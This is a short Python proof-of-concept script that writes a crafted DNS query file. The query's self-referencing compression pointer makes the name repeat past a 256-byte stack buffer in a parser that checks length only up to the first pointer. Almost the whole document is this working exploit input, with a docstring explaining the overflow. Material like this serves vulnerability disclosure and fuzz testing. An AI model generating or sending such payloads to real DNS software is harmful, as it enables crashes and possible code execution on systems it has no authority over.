"""Writes the PoC: a query whose question name is a 63-byte label followed by a compression
pointer back to that label. The wire length check only counts the bytes before the first
pointer, so following the pointer appends the label again and again, past the end of the
256-byte name buffer on the stack."""

import struct
import sys

header = struct.pack(">HHHHHH", 0x0bad, 0x0100, 1, 0, 0, 0)
name = bytes([63]) + b"a" * 63 + b"\xc0\x0c"  # the label, then a pointer to offset 12: itself
data = header + name + struct.pack(">HH", 1, 1)
with open(sys.argv[1] if len(sys.argv) > 1 else "poc", "wb") as f:
    f.write(data)
